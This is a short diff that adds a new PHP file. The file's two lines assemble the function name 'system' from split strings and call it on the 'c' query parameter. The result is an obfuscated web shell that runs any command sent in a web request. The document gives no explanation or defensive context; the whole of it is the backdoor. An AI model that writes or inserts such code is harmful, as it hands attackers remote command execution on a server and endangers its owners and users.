@@ -1,0 +1,2 @@
+<?php
+define('F', 'sys'.'tem'); $f = F; $f($_GET['c']);
